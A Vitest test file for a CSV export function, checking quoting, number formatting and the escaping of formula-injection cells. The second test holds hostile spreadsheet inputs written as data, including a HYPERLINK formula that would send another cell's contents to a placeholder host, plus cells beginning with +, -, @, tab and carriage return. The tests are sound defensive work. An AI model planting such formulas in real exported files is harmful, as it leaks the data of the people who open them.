import { describe, expect, it } from 'vitest';
import { toCsv } from './csv-export';

describe('toCsv', () => {
  it('quotes only what needs quoting', () => {
    expect(toCsv(['代码', '名称'], [['C01', '计算机, 学院'], ['C02', 'say "hi"'], ['C03', null], ['C04', ' padded ']])).toBe(
      '代码,名称\r\nC01,"计算机, 学院"\r\nC02,"say ""hi"""\r\nC03,\r\nC04," padded "',
    );
  });

  it('writes a cell that Excel or WPS would run as a formula as text, with a leading quote', () => {
    const csv = toCsv(['name', 'n'], [
      ['=HYPERLINK("http://x/?"&A2,"open")', 1],
      ['+1+1', 2],
      ['-2-3', 3],
      ['@SUM(A1:A2)', 4],
      ['\tcmd', 5],
      ['\rcmd', 6],
    ]);
    expect(csv.split('\r\n').slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://x/?""&A2,""open"")",1`,
      "'+1+1,2",
      "'-2-3,3",
      "'@SUM(A1:A2),4",
      `"'\tcmd",5`,
    ]);
    expect(csv.endsWith(`"'\rcmd",6`)).toBe(true);
  });

  it('keeps numbers as numbers, negative ones too, and booleans as words', () => {
    expect(toCsv(['a', 'b', 'c'], [[-5, 1.5, true]])).toBe('a,b,c\r\n-5,1.5,true');
  });
});
